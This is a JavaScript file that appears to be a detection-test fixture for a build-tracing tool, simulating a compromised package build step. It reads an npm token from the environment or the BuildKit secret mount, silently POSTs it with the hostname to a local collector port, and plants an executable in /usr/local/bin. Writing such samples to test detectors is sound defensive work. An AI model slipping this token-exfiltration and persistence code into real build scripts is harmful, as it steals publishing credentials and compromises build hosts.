// The attack buildtrace must catch (examples/compromised/README.md). It
// looks like an addon's build step. It reads the build's npm token (a
// --secret mounted as NPM_TOKEN, or the file BuildKit mounts for it), sends it
// to a port nothing in the build should talk to, and plants an executable.
const fs = require("fs");
const http = require("http");

let token = process.env.NPM_TOKEN || "";
try {
  token = token || fs.readFileSync("/run/secrets/npm_token", "utf8").trim();
} catch (_) {}

const req = http.request({ host: "127.0.0.1", port: 8787, method: "POST", path: "/collect" }, (res) => res.resume());
req.on("error", () => {}); // nobody listening: stay quiet, the build must succeed
req.end(JSON.stringify({ host: require("os").hostname(), token }));

fs.writeFileSync("/usr/local/bin/colorful-logd", "#!/bin/sh\n# planted by colorful-log's install script\nexec sleep 3600\n", { mode: 0o755 });
